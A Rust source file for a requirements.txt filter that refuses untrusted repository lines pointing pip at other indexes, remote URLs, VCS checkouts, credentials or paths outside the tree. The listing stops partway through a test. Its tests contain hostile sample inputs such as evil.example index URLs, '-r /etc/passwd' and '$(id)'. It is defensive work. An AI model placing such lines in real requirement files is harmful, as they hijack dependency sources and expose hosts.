//! The requirements-file filter: what of a repo's `requirements.txt` iac acts on.
//!
//! Requirement files are written by repo authors, who are untrusted, while pip (in the confined
//! resolver container, `resolver.rs`) fetches with the operator's index. So pip never reads a
//! repo file: every
//! line is classified here ([`parse`], pure, fuzzed by `fuzz/fuzz_targets/requirements_filter.rs`)
//! and only re-emitted when it is safe; anything else is refused with the file and line.
//!
//! | line | verdict |
//! |---|---|
//! | `name[extras] specifiers ; markers` (+ `--hash=…`) | [`Line::Index`]: a binary wheel from the operator's index |
//! | a path in the tree (`.`, `./libs/x`, `-e ./pkg`, `vendor/x.whl`, `x @ file:rel`) | [`Line::Local`]: built inside the image, offline |
//! | `-r`/`--requirement`, `-c`/`--constraint` with a path in the tree | [`Line::Include`] |
//! | `--pre`, `--prefer-binary`, `--require-hashes` | [`Line::Option`] |
//! | `--only-binary`, `--no-binary`, `--config-settings`, `--global-option`, `--install-option`, `--use-pep517`, any other option, a short option written `-x=VALUE` | refused: iac decides how dependencies are built |
//! | `-i`/`--index-url`, `--extra-index-url`, `--no-index`, `-f`/`--find-links`, `--trusted-host` | refused: the operator chooses the index |
//! | paths outside the tree (absolute, `..`, `~`), `file:///…` | refused |
//! | URLs (`https://…`, `name @ https://…`, `git+…`) | refused: the host would fetch wherever the repo says (and build VCS/sdist code) |
//! | anything with `user:password@` or `${VAR}`; options after a requirement other than `--hash` | refused |
//!
//! Paths are checked lexically here; [`super::wheels`] also resolves them on disk, so a symlink
//! that leaves the tree is refused too.

use std::fmt;

/// One accepted logical line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Line {
    /// A requirement by name, from the operator's index: parsed (PEP 508) and regenerated, never
    /// the repo's bytes.
    Index(IndexReq),
    /// A local project or archive inside the tree, installed inside the image from `/app`.
    /// `path` is normalized and relative to the tree root (where pip resolves it); `text` is
    /// the line to give pip there, regenerated from `path`, `editable` and validated extras.
    Local {
        /// The line to give pip, regenerated.
        text: String,
        /// The local path, relative to the tree's root.
        path: String,
        /// Given with `-e` (installed editable).
        editable: bool,
    },
    /// Another requirements (or constraints) file, relative to the including file's directory,
    /// normalized and checked not to leave the tree from there (see [`join_inside`]).
    Include {
        /// The included file, relative to the tree's root.
        path: String,
        /// `-c` (constraints) rather than `-r`.
        constraint: bool,
    },
    /// A global option that changes how pip picks among the index's wheels, not where it looks.
    Option(String),
}

/// A requirement by name as iac regenerates it: `requirement` is the PEP 508 form
/// (`name[extras]specifiers ; markers`, normalized by `pep508_rs`), `hashes` the validated
/// `--hash=<algo>:<hex>` options that followed it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct IndexReq {
    /// The PEP 508 requirement, normalized.
    pub requirement: String,
    /// `--hash` values (`<algo>:<hex>`) that must match the wheel.
    pub hashes: Vec<String>,
}

impl IndexReq {
    /// The line for the resolver: the requirement plus its hashes (pip checks them on download).
    pub fn line(&self) -> String {
        let mut s = self.requirement.clone();
        for h in &self.hashes {
            s.push(' ');
            s.push_str(h);
        }
        s
    }

    /// Whether its markers hold on the image's CPython `python` (Linux x86_64, no extras).
    pub fn applies(&self, python: (u32, u32)) -> bool {
        marker_applies(&self.requirement, python)
    }
}

/// Whether the markers of the PEP 508 requirement `req` hold for CPython `python` on Linux
/// x86_64 (the images iac builds), with no extras requested. The patch version is taken as 0.
/// A requirement that does not parse applies (the resolver reports it).
pub fn marker_applies(req: &str, python: (u32, u32)) -> bool {
    use std::str::FromStr;
    let Ok(parsed) = pep508_rs::Requirement::<pep508_rs::VerbatimUrl>::from_str(req) else {
        return true;
    };
    let version = format!("{}.{}", python.0, python.1);
    let full = format!("{version}.0");
    let env = pep508_rs::MarkerEnvironment::try_from(pep508_rs::MarkerEnvironmentBuilder {
        implementation_name: "cpython",
        implementation_version: &full,
        os_name: "posix",
        platform_machine: "x86_64",
        platform_python_implementation: "CPython",
        platform_release: "",
        platform_system: "Linux",
        platform_version: "",
        python_full_version: &full,
        python_version: &version,
        sys_platform: "linux",
    });
    match env {
        Ok(env) => parsed.marker.evaluate(&env, &[]),
        Err(_) => true,
    }
}

/// A refused line: why, in words that say what was expected.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Refused(pub String);

impl fmt::Display for Refused {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

/// Global options that never point pip elsewhere.
const GLOBAL_FLAGS: &[&str] = &["--pre", "--prefer-binary", "--require-hashes"];

/// Options that point pip at other indexes or hosts: the operator chooses those.
const INDEX_OPTIONS: &[&str] = &[
    "-i",
    "--index-url",
    "--extra-index-url",
    "--no-index",
    "-f",
    "--find-links",
    "--trusted-host",
];

/// Archive names pip treats as local files.
const ARCHIVE_SUFFIXES: &[&str] = &[
    ".whl", ".tar.gz", ".tgz", ".tar.bz2", ".tbz", ".tar.xz", ".txz", ".tar", ".zip",
];

/// Splits a requirements file into logical lines the way pip does (a trailing `\` joins the next
/// line, `#` starts a comment at the line start or after whitespace) and classifies each one.
/// `base` is the tree-relative directory of the file (`""` at the root): `-r`/`-c` paths are
/// relative to it, as in pip. Returns `(line number of the first physical line, verdict)`; blank
/// and comment-only lines are left out. Never panics, whatever the input.
pub fn parse(text: &str, base: &str) -> Vec<(usize, Result<Line, Refused>)> {
    let mut out = Vec::new();
    for (number, logical) in logical_lines(text) {
        let stripped = strip_comment(&logical);
        let line = stripped.trim();
        if line.is_empty() {
            continue;
        }
        out.push((number, classify(line, base)));
    }
    out
}

/// pip's `join_lines`: a line ending in `\` continues on the next (the `\` removed), unless it
/// is a comment line.
fn logical_lines(text: &str) -> Vec<(usize, String)> {
    let mut out = Vec::new();
    let mut pending: Option<(usize, String)> = None;
    for (i, raw) in text.lines().enumerate() {
        let number = i + 1;
        let is_comment = is_comment_line(raw);
        if raw.ends_with('\\') && !is_comment {
            let piece = raw.trim_end_matches('\\');
            match &mut pending {
                Some((_, s)) => s.push_str(piece),
                None => pending = Some((number, piece.to_string())),
            }
        } else {
            let piece = if is_comment {
                format!(" {raw}")
            } else {
                raw.to_string()
            };
            match pending.take() {
                Some((n, mut s)) => {
                    s.push_str(&piece);
                    out.push((n, s));
                }
                None => out.push((number, piece)),
            }
        }
    }
    if let Some(p) = pending {
        out.push(p);
    }
    out
}

/// pip's `COMMENT_RE` is `(^|\s+)#.*$`.
fn is_comment_line(line: &str) -> bool {
    comment_start(line).is_some()
}

fn comment_start(line: &str) -> Option<usize> {
    let mut prev_space = true;
    for (i, c) in line.char_indices() {
        if c == '#' && prev_space {
            return Some(i);
        }
        prev_space = c.is_whitespace();
    }
    None
}

fn strip_comment(line: &str) -> &str {
    match comment_start(line) {
        Some(i) => &line[..i],
        None => line,
    }
}

fn refuse<T>(why: impl Into<String>) -> Result<T, Refused> {
    Err(Refused(why.into()))
}

/// Classifies one logical line (comment stripped, trimmed, non-empty) of a file in the
/// tree-relative directory `base`.
pub fn classify(line: &str, base: &str) -> Result<Line, Refused> {
    if line.contains("${") {
        return refuse(
            "environment variable references (${...}) are not allowed: pip would expand them from the environment; write the value out",
        );
    }
    if line.chars().any(|c| c.is_control() && c != '\t') {
        return refuse("control characters are not allowed in a requirement line");
    }
    if has_credentials(line) {
        return refuse(
            "URLs carrying credentials (user:password@) are not allowed in requirement files; the operator configures index credentials",
        );
    }
    // pip: tokens up to the first one starting with `-` are the requirement, the rest options.
    let tokens: Vec<&str> = line.split_whitespace().collect();
    let split = tokens
        .iter()
        .position(|t| t.starts_with('-'))
        .unwrap_or(tokens.len());
    let requirement = tokens[..split].join(" ");
    let options = shell_split(&tokens[split..].join(" "))?;
    if requirement.is_empty() {
        return classify_options(&options, base);
    }
    let hashes = per_requirement_options(&options)?;
    let mut line = classify_requirement(&requirement, false)?;
    if !hashes.is_empty() {
        match &mut line {
            Line::Index(req) => req.hashes = hashes,
            _ => return refuse("--hash applies to requirements from the index only"),
        }
    }
    Ok(line)
}

/// Options after a requirement: only `--hash=<algo>:<hex>` (pip's per-requirement hash check).
fn per_requirement_options(options: &[String]) -> Result<Vec<String>, Refused> {
    let mut out = Vec::new();
    let mut i = 0;
    while i < options.len() {
        let o = &options[i];
        let value = if let Some(v) = o.strip_prefix("--hash=") {
            v.to_string()
        } else if o == "--hash" {
            i += 1;
            match options.get(i) {
                Some(v) => v.clone(),
                None => return refuse("--hash needs a value, e.g. --hash=sha256:<hex>"),
            }
        } else {
            return refuse(format!(
                "option {} is not allowed after a requirement (only --hash=<algorithm>:<hex> is)",
                shown_option(o)
            ));
        };
        let ok = value.split_once(':').is_some_and(|(algo, hex)| {
            matches!(algo, "sha256" | "sha384" | "sha512")
                && !hex.is_empty()
                && hex.chars().all(|c| c.is_ascii_hexdigit())
        });
        if !ok {
            return refuse(format!(
                "--hash value {value:?} is not <sha256|sha384|sha512>:<hex>"
            ));
        }
        out.push(format!("--hash={}", value.to_ascii_lowercase()));
        i += 1;
    }
    Ok(out)
}

/// A line made of options only.
fn classify_options(options: &[String], base: &str) -> Result<Line, Refused> {
    let Some(first) = options.first() else {
        return refuse("empty option line");
    };
    let (name, inline) = split_option(first);
    let value = |what: &str| -> Result<String, Refused> {
        let v = match inline {
            Some(v) => v.to_string(),
            None => match options.get(1) {
                Some(v) => v.clone(),
                None => return refuse(format!("{name} needs {what}")),
            },
        };
        let used = if inline.is_some() { 1 } else { 2 };
        if options.len() > used {
            return refuse(format!(
                "unexpected {:?} after {name} {v}; put one option per line",
                options[used]
            ));
        }
        Ok(v)
    };
    if !name.starts_with("--") && inline.is_some_and(|v| v.starts_with('=')) {
        return refuse(format!(
            "{name}=…: pip takes a short option's value verbatim, `=` included; write {name} VALUE"
        ));
    }
    if INDEX_OPTIONS.contains(&name) {
        return refuse(format!(
            "{name} is not allowed in requirement files: it points pip at another index or host. The operator chooses the index (images.pip_index_url, images.pip_args)"
        ));
    }
    if GLOBAL_FLAGS.contains(&name) {
        if inline.is_some() || options.len() > 1 {
            return refuse(format!("{name} takes no value; put one option per line"));
        }
        return Ok(Line::Option(name.to_string()));
    }
    match name {
        "--only-binary" | "--no-binary" => refuse(format!(
            "{name} is not allowed in requirement files: iac decides how dependencies are built (wheels from the index; source distributions built in the confined resolver container)"
        )),
        "-r" | "--requirement" | "-c" | "--constraint" => {
            let v = value("a file path")?;
            if looks_like_url(&v) {
                return refuse(format!(
                    "{name} {v}: requirement files must be paths inside the repository, not URLs"
                ));
            }
            let path =
                normalize_inside(base, &v).map_err(|why| Refused(format!("{name} {v}: {why}")))?;
            Ok(Line::Include {
                path,
                constraint: matches!(name, "-c" | "--constraint"),
            })
        }
        "-e" | "--editable" => {
            let v = value("a path")?;
            if looks_like_url(&v) || direct_reference(&v).is_some() {
                return refuse(format!(
                    "{name} with {}: editable installs must name a path inside the repository",
                    url_scheme(&v)
                ));
            }
            // pip takes any non-URL value of -e as a directory (extras may follow in [...]).
            let (dir, extras) = split_local_extras(&v)?;
            let path =
                normalize_inside("", dir).map_err(|why| Refused(format!("{name} {dir}: {why}")))?;
            Ok(local(path, extras, true))
        }
        other => refuse(format!(
            "option {} is not allowed in requirement files; iac accepts -r/-c with paths in the repository, -e with a path in the repository, --hash, --pre, --prefer-binary and --require-hashes",
            shown_option(other)
        )),
    }
}

/// `dir[extra1,extra2]` → (`dir`, the extras, validated as names).
fn split_local_extras(v: &str) -> Result<(&str, Vec<String>), Refused> {
    let Some(open) = v.find('[') else {
        return Ok((v, Vec::new()));
    };
    let inner = v[open + 1..]
        .strip_suffix(']')
        .ok_or_else(|| Refused(format!("{v:?}: expected path[extra,...] with a closing ]")))?;
    let extras: Vec<String> = inner
        .split(',')
        .map(str::trim)
        .filter(|e| !e.is_empty())
        .map(str::to_string)
        .collect();
    if let Some(bad) = extras.iter().find(|e| !is_name(e)) {
        return refuse(format!("{v:?}: extra {bad:?} is not a package-style name"));
    }
    Ok((&v[..open], extras))
}

/// The line pip gets inside the image for a local project: regenerated from the normalized path
/// (`./` keeps pip from taking it for a name), the flag and the extras.
fn local(path: String, extras: Vec<String>, editable: bool) -> Line {
    let mut text = String::new();
    if editable {
        text.push_str("-e ");
    }
    if path == "." {
        text.push('.');
    } else {
        text.push_str("./");
        text.push_str(&path);
    }
    if !extras.is_empty() {
        text.push('[');
        text.push_str(&extras.join(","));
        text.push(']');
    }
    Line::Local {
        text,
        path,
        editable,
    }
}

/// The option name for messages, without any inline value (which could be a secret).
fn shown_option(o: &str) -> String {
    split_option(o).0.chars().take(40).collect()
}

/// `--opt=value` → (`--opt`, Some(value)); `-rfile` → (`-r`, Some(file)); `--opt` → (`--opt`, None).
fn split_option(o: &str) -> (&str, Option<&str>) {
    if o.starts_with("--") {
        match o.split_once('=') {
            Some((n, v)) => (n, Some(v)),
            None => (o, None),
        }
    } else if o.len() > 2 && o.is_char_boundary(2) {
        // Short options with the value attached (`-rbase.txt`); optparse takes it verbatim.
        (&o[..2], Some(&o[2..]))
    } else {
        (o, None)
    }
}

/// The requirement part of a line (or the value of `-e`).
fn classify_requirement(req: &str, editable: bool) -> Result<Line, Refused> {
    // `name @ url` (PEP 508 direct reference).
    if let Some((name, url)) = direct_reference(req) {
        let name = name.trim();
        let url = url.trim();
        if !is_name(strip_extras(name)) {
            return refuse(format!(
                "{req:?}: expected `name @ url` with a package name before @"
            ));
        }
        if let Some(rest) = url.strip_prefix("file:") {
            let path = rest.strip_prefix("//").unwrap_or(rest);
            let path = path.split(';').next().unwrap_or("").trim();
            let norm =
                normalize_inside("", path).map_err(|why| Refused(format!("{req}: {why}")))?;
            let (_, extras) = split_local_extras(name)?;
            return Ok(local(norm, extras, editable));
        }
        return refuse(format!(
            "{name} @ {}: direct URL references are not allowed — the host would download from wherever the repository says{}. List the package by name (it comes from the operator's index) or vendor the wheel in the repository",
            url_scheme(url),
            if is_vcs(url) {
                " and a VCS checkout must be built, running its code"
            } else {
                ""
            }
        ));
    }
    let first = req.split([';', '[', ' ']).next().unwrap_or(req);
    if looks_like_url(first) {
        return refuse(format!(
            "{}: URL requirements are not allowed — the host would download from wherever the repository says{}. List the package by name (it comes from the operator's index) or vendor the wheel in the repository",
            url_scheme(first),
            if is_vcs(first) {
                " and a VCS checkout must be built, running its code"
            } else {
                ""
            }
        ));
    }
    if is_path_like(first) {
        if req.contains(';') {
            return refuse(format!(
                "{first}: environment markers on a local path are not supported; list the path without them"
            ));
        }
        let (dir, extras) = split_local_extras(req.trim())?;
        let path = normalize_inside("", dir).map_err(|why| Refused(format!("{dir}: {why}")))?;
        return Ok(local(path, extras, editable));
    }
    if editable {
        return refuse(format!(
            "-e {req}: editable installs must name a path inside the repository"
        ));
    }
    check_named(req)?;
    Ok(Line::Index(IndexReq {
        requirement: regenerate(req)?,
        hashes: Vec::new(),
    }))
}

/// The PEP 508 form of a name-based requirement `check_named` accepted, as `pep508_rs` prints
/// it: what pip reads is made by iac, not copied from the repo.
fn regenerate(req: &str) -> Result<String, Refused> {
    use std::str::FromStr;
    let parsed = pep508_rs::Requirement::<pep508_rs::VerbatimUrl>::from_str(req).map_err(|e| {
        let first = e.to_string();
        Refused(format!(
            "{req:?} is not a PEP 508 requirement: {}",
            first.lines().next().unwrap_or("")
        ))
    })?;
    if matches!(parsed.version_or_url, Some(pep508_rs::VersionOrUrl::Url(_))) {
        return refuse(format!(
            "{req:?}: direct URL references are not allowed; list the package by name"
        ));
    }
    Ok(parsed.to_string())
}

/// `name [extras] @ url`: the ` @ ` or `@` that follows a name (and not a URL's userinfo).
fn direct_reference(req: &str) -> Option<(&str, &str)> {
    let at = req.find('@')?;
    let (name, url) = (&req[..at], &req[at + 1..]);
    if name.contains("://") || name.contains(';') {
        return None;
    }
    Some((name, url))
}

fn strip_extras(name: &str) -> &str {
    name.split('[').next().unwrap_or(name).trim()
}

/// A name-based requirement: `name[extras] specifiers ; markers`.
fn check_named(req: &str) -> Result<(), Refused> {
    if req.contains("://") {
        return refuse(format!(
            "{}: URLs are not allowed in a requirement",
            req.split("://")
                .next()
                .unwrap_or("")
                .chars()
                .take(40)
                .collect::<String>()
        ));
    }
    let (spec, markers) = match req.split_once(';') {
        Some((s, m)) => (s, Some(m)),
        None => (req, None),
    };
    if markers.is_some_and(|m| m.trim().is_empty()) {
        return refuse(format!(
            "{req:?}: the environment markers after ; are empty"
        ));
    }
    let spec = spec.trim();
    let name_end = spec
        .find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-')))
        .unwrap_or(spec.len());
    let name = &spec[..name_end];
    if !is_name(name) {
        return refuse(format!(
            "{req:?} is not a requirement; expected a package name (letters, digits, . _ -) with optional [extras], version specifiers and ; markers, or a path inside the repository"
        ));
    }
    let rest = spec[name_end..].trim();
    let rest = match rest.strip_prefix('[') {
        Some(r) => {
            let Some(close) = r.find(']') else {
                return refuse(format!("{req:?}: unterminated [extras]"));
            };
            let extras = &r[..close];
            if !extras
                .split(',')
                .map(str::trim)
                .all(|e| e.is_empty() || is_name(e))
            {
                return refuse(format!("{req:?}: extras must be package-style names"));
            }
            r[close + 1..].trim()
        }
        None => rest,
    };
    let rest = rest
        .strip_prefix('(')
        .and_then(|r| r.strip_suffix(')'))
        .unwrap_or(rest)
        .trim();
    if rest.is_empty() {
        return Ok(());
    }
    for clause in rest.split(',') {
        let clause = clause.trim();
        let op_len = ["===", "==", "!=", "<=", ">=", "~=", "<", ">"]
            .iter()
            .find(|op| clause.starts_with(*op))
            .map(|op| op.len());
        let version = op_len.map(|n| clause[n..].trim());
        let ok = version.is_some_and(|v| {
            !v.is_empty()
                && v.chars().all(|c| {
                    c.is_ascii_alphanumeric() || matches!(c, '.' | '*' | '+' | '!' | '_' | '-')
                })
        });
        if !ok {
            return refuse(format!(
                "{req:?}: expected version specifiers like >=1.2,<2 after the name"
            ));
        }
    }
    Ok(())
}

/// A PEP 508 / PEP 503 style package name.
pub fn is_name(s: &str) -> bool {
    let b = s.as_bytes();
    !b.is_empty()
        && b.len() <= 200
        && b[0].is_ascii_alphanumeric()
        && b[b.len() - 1].is_ascii_alphanumeric()
        && b.iter()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'_' | b'-'))
}

fn looks_like_url(s: &str) -> bool {
    match s.find(':') {
        Some(i) => {
            let scheme = &s[..i];
            !scheme.is_empty()
                && scheme
                    .chars()
                    .all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.'))
                && (s[i..].starts_with("://") || scheme.eq_ignore_ascii_case("file"))
        }
        None => false,
    }
}

fn is_vcs(url: &str) -> bool {
    ["git+", "hg+", "svn+", "bzr+"]
        .iter()
        .any(|p| url.to_ascii_lowercase().starts_with(p))
}

/// The scheme of a URL for messages (never the rest: it could carry tokens).
fn url_scheme(url: &str) -> String {
    match url.find("://") {
        Some(i) => format!("a {}:// URL", url[..i].chars().take(16).collect::<String>()),
        None => "a URL".into(),
    }
}

/// `scheme://user[:password]@host…` anywhere in the line.
fn has_credentials(line: &str) -> bool {
    let mut rest = line;
    while let Some(i) = rest.find("://") {
        let after = &rest[i + 3..];
        let authority_end = after
            .find(|c: char| c == '/' || c.is_whitespace() || c == '#' || c == '?')
            .unwrap_or(after.len());
        if after[..authority_end].contains('@') {
            return true;
        }
        rest = after;
    }
    false
}

/// pip treats a requirement as a path when it contains `/`, starts with `.`, or names an
/// archive file.
fn is_path_like(s: &str) -> bool {
    s.contains('/')
        || s.starts_with('.')
        || s.starts_with('~')
        || ARCHIVE_SUFFIXES
            .iter()
            .any(|suffix| s.to_ascii_lowercase().ends_with(suffix))
}

/// `rel` joined onto the tree-relative directory `base`, normalized, refused when it is absolute,
/// starts at a home directory, or climbs out of the tree. Returns a `/`-separated relative path
/// (`.` for the root).
pub fn join_inside(base: &str, rel: &str) -> Result<String, String> {
    normalize_inside(base, rel)
}

fn normalize_inside(base: &str, rel: &str) -> Result<String, String> {
    if rel.is_empty() {
        return Err("an empty path".into());
    }
    if rel.starts_with('/') {
        return Err(
            "absolute paths are outside the repository; use a path relative to the repository root"
                .into(),
        );
    }
    if rel.starts_with('~') {
        return Err("paths in a home directory are outside the repository".into());
    }
    if rel.contains('\\') {
        return Err("backslashes are not allowed in paths".into());
    }
    let mut parts: Vec<&str> = Vec::new();
    for part in base.split('/').chain(rel.split('/')) {
        match part {
            "" | "." => {}
            ".." => {
                if parts.pop().is_none() {
                    return Err("the path leaves the repository (..)".into());
                }
            }
            p if p.starts_with('~') => {
                return Err(format!(
                    "path component {p:?} starts with ~, which may be expanded to a home directory; rename it"
                ));
            }
            p => parts.push(p),
        }
    }
    Ok(if parts.is_empty() {
        ".".into()
    } else {
        parts.join("/")
    })
}

/// A line's options split into words, as pip does with `shlex.split` (POSIX mode), by the one
/// shell splitter ([`iac_core::shell::split_words`]).
fn shell_split(s: &str) -> Result<Vec<String>, Refused> {
    iac_core::shell::split_words(s)
        .map(|split| split.words)
        .or_else(|e| refuse(format!("{e} in the options")))
}

/// A PEP 508 dependency string from `pyproject.toml` (`[project] dependencies` or
/// `[build-system] requires`): the same rules as a requirements line, but it must be by name
/// (a path or an option there is refused).
pub fn classify_dependency(dep: &str) -> Result<IndexReq, Refused> {
    let dep = dep.trim();
    if dep.starts_with('-') {
        return refuse(format!("{dep:?}: options are not dependencies"));
    }
    match classify(dep, "")? {
        Line::Index(req) => Ok(req),
        Line::Local { .. } => refuse(format!(
            "{dep:?}: a local path as a dependency; list it in requirements.txt instead"
        )),
        _ => refuse(format!("{dep:?} is not a dependency")),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn one(line: &str) -> Result<Line, Refused> {
        let mut v = parse(line, "");
        assert_eq!(v.len(), 1, "{line:?} → {v:?}");
        v.remove(0).1
    }

    /// An index line as iac regenerates it: the PEP 508 text, then `--hash=` options.
    fn index(s: &str) -> Line {
        let mut parts = s.split(" --hash=");
        Line::Index(IndexReq {
            requirement: parts.next().unwrap().to_string(),
            hashes: parts.map(|h| format!("--hash={h}")).collect(),
        })
    }

    #[test]
    fn accepted_lines() {
        let table: Vec<(&str, Line)> = vec![
            ("six", index("six")),
            (
                "requests[socks,security]>=2.31,<3",
                index("requests[socks,security]>=2.31,<3"),
            ),
            // Regenerated from the parse: normalized name, no spaces, markers quoted one way.
            ("Django == 5.0.*", index("django==5.0.*")),
            (
                "pywin32 ; sys_platform == \"win32\"",
                index("pywin32 ; sys_platform == 'win32'"),
            ),
            (
                "idna==3.7 --hash=sha256:abc123",
                index("idna==3.7 --hash=sha256:abc123"),
            ),
            (
                "idna==3.7 --hash sha256:ABC --hash=sha512:00",
                index("idna==3.7 --hash=sha256:abc --hash=sha512:00"),
            ),
            ("six # trailing comment", index("six")),
            ("--pre", Line::Option("--pre".into())),
            ("--prefer-binary", Line::Option("--prefer-binary".into())),
            ("--require-hashes", Line::Option("--require-hashes".into())),
            (
                "-r base.txt",
                Line::Include {
                    path: "base.txt".into(),
                    constraint: false,
                },
            ),
            (
                "-rreq/dev.txt",
                Line::Include {
                    path: "req/dev.txt".into(),
                    constraint: false,
                },
            ),
            (
                "--requirement=./a/../b.txt",
                Line::Include {
                    path: "b.txt".into(),
                    constraint: false,
                },
            ),
            (
                "-c constraints.txt",
                Line::Include {
                    path: "constraints.txt".into(),
                    constraint: true,
                },
            ),
            (
                "--constraint 'c d.txt'",
                Line::Include {
                    path: "c d.txt".into(),
                    constraint: true,
                },
            ),
            (
                ".",
                Line::Local {
                    text: ".".into(),
                    path: ".".into(),
                    editable: false,
                },
            ),
            (
                "./libs/util[fast]",
                Line::Local {
                    text: "./libs/util[fast]".into(),
                    path: "libs/util".into(),
                    editable: false,
                },
            ),
            (
                "vendor/pkg-1.0-py3-none-any.whl",
                Line::Local {
                    text: "./vendor/pkg-1.0-py3-none-any.whl".into(),
                    path: "vendor/pkg-1.0-py3-none-any.whl".into(),
                    editable: false,
                },
            ),
            (
                "pkg-1.0.tar.gz",
                Line::Local {
                    text: "./pkg-1.0.tar.gz".into(),
                    path: "pkg-1.0.tar.gz".into(),
                    editable: false,
                },
            ),
            (
                "-e .",
                Line::Local {
                    text: "-e .".into(),
                    path: ".".into(),
                    editable: true,
                },
            ),
            (
                "--editable=./sub",
                Line::Local {
                    text: "-e ./sub".into(),
                    path: "sub".into(),
                    editable: true,
                },
            ),
            (
                "mylib @ file:libs/mylib",
                Line::Local {
                    text: "./libs/mylib".into(),
                    path: "libs/mylib".into(),
                    editable: false,
                },
            ),
        ];
        for (line, want) in table {
            assert_eq!(one(line), Ok(want), "{line:?}");
        }
    }

    #[test]
    fn refused_lines_say_why() {
        let table: &[(&str, &str)] = &[
            (
                "--index-url https://evil.example/simple",
                "--index-url is not allowed",
            ),
            ("-i https://evil.example/simple", "-i is not allowed"),
            ("-ihttps://evil.example/simple", "-i is not allowed"),
            (
                "--extra-index-url=https://evil.example/simple",
                "--extra-index-url",
            ),
            ("--find-links /tmp/wheels", "--find-links"),
            ("-f https://evil.example/", "-f is not allowed"),
            ("--trusted-host evil.example", "--trusted-host"),
            ("--no-index", "--no-index"),
            (
                "six --index-url https://evil.example",
                "not allowed after a requirement",
            ),
            (
                "--extra-index=https://evil.example",
                "--extra-index is not allowed",
            ),
            ("-r /etc/passwd", "absolute"),
            ("-r ../../etc/requirements.txt", "leaves the repository"),
            ("--requirement=a/../../x.txt", "leaves the repository"),
            ("-c /etc/constraints.txt", "absolute"),
            ("-r https://evil.example/req.txt", "not URLs"),
            ("-e /home/me/project", "absolute"),
            ("-e ../sibling", "leaves the repository"),
            (
                "-e git+https://github.com/x/y#egg=y",
                "editable installs must name a path",
            ),
            ("/opt/pkg", "absolute"),
            ("../outside/pkg", "leaves the repository"),
            ("~/pkg", "home directory"),
            ("pkg @ file:///etc/pkg", "absolute"),
            (
                "pkg @ https://evil.example/pkg-1.0-py3-none-any.whl",
                "direct URL references",
            ),
            ("pkg @ git+https://github.com/x/y", "VCS checkout"),
            ("git+https://github.com/x/y#egg=y", "URL requirements"),
            ("https://evil.example/pkg.whl", "URL requirements"),
            ("pkg @ https://user:tok@evil.example/p.whl", "credentials"),
            ("--hash=sha256:00", "--hash is not allowed"),
            ("six --hash=md5:00", "is not <sha256"),
            ("six --hash", "needs a value"),
            ("--no-binary :all:", "--no-binary is not allowed"),
            ("--only-binary '' ", "--only-binary is not allowed"),
            // The host-code bypass of the first review, in every spelling pip accepts.
            ("--only-binary=:none:", "--only-binary is not allowed"),
            ("--only-binary :none:", "--only-binary is not allowed"),
            ("--only-binary=\":none:\"", "--only-binary is not allowed"),
            ("--no-binary=:all:", "--no-binary is not allowed"),
            ("--no-binary somepkg", "--no-binary is not allowed"),
            (
                "--index-url=https://evil.example/simple",
                "--index-url is not allowed",
            ),
            (
                "--extra-index-url https://evil.example/simple",
                "--extra-index-url",
            ),
            ("--trusted-host=evil.example", "--trusted-host"),
            (
                "-e git+https://evil.example/x#egg=x",
                "editable installs must name a path",
            ),
            (
                "--editable=git+https://evil.example/x#egg=x",
                "editable installs must name a path",
            ),
            (
                "-egit+https://evil.example/x#egg=x",
                "editable installs must name a path",
            ),
            (
                "somepkg==1.0 --no-binary=:all:",
                "not allowed after a requirement",
            ),
            ("-i${INDEX}", "environment variable"),
            ("./pkg ; python_version > '3'", "markers on a local path"),
            (
                "--use-feature=truststore",
                "option --use-feature is not allowed",
            ),
            ("--config-settings=x=y", "--config-settings is not allowed"),
            ("-Z", "option -Z is not allowed"),
            ("pkg==${SUPABASE_SERVICE_ROLE_KEY}", "environment variable"),
            ("--pre --index-url x", "takes no value"),
            ("-r a.txt b.txt", "one option per line"),
            ("not a requirement!", "expected version specifiers"),
            ("-not-a-name", "option -n is not allowed"),
            ("ünïcode", "is not a requirement"),
            ("x @ aéééééééé://h/p.whl", "direct URL references"),
            ("six>=1;", "markers after ; are empty"),
            ("six[extra", "unterminated"),
            ("six $(id)", "version specifiers"),
            ("six ; x == 'http://a'", "URLs are not allowed"),
            ("six ===", "version specifiers"),
            ("--constraint 'unterminated", "unterminated"),
        ];
        for (line, needle) in table {
            let got = one(line);
            let Err(Refused(why)) = &got else {
                panic!("{line:?} was accepted: {got:?}");
            };
            assert!(why.contains(needle), "{line:?}: {why}");
            assert!(
                !why.contains("tok@") && !why.contains("evil.example/simple"),
                "refusals never echo URLs that may carry secrets: {why}"
            );
        }
    }

    /// Issue 22's audit: every option that can change where pip fetches from or make it build
    /// (run) code, in every spelling pip's requirement-file parser accepts — `NAME VALUE`,
    /// `NAME=VALUE`, short flags spaced, attached and with `=`, optparse's unambiguous long
    /// prefixes (`--only-b`), tabs, indentation, a `\` continuation through the name or
    /// between name and value, after a requirement on the same line, and `${VAR}` as the value
    /// or the whole option. Each one is refused, and nothing of it reaches what pip reads.
    #[test]
    fn every_spelling_pip_accepts_of_a_dangerous_option_is_refused() {
        // (long name, short name, a value; "" for flags)
        let options: &[(&str, Option<&str>, &str)] = &[
            ("--only-binary", None, ":none:"),
            ("--no-binary", None, ":all:"),
            ("--index-url", Some("-i"), "https://evil.example/simple"),
            ("--extra-index-url", None, "https://evil.example/simple"),
            ("--trusted-host", None, "evil.example"),
            ("--find-links", Some("-f"), "https://evil.example/wheels/"),
            ("--no-index", None, ""),
            ("--editable", Some("-e"), "git+https://evil.example/x#egg=x"),
            ("--use-pep517", None, ""),
            ("--no-use-pep517", None, ""),
            ("--no-build-isolation", None, ""),
            ("--global-option", None, "--install-script=/tmp/x"),
            ("--install-option", None, "--prefix=/tmp/x"),
            ("--config-settings", Some("-C"), "setup-args=-Dx=y"),
            ("--use-feature", None, "truststore"),
        ];
        let mut spellings: Vec<String> = Vec::new();
        for (long, short, value) in options {
            let mut one_line = Vec::new();
            if value.is_empty() {
                one_line.push(long.to_string());
                one_line.push(long[..long.len() - 2].to_string());
            } else {
                one_line.push(format!("{long} {value}"));
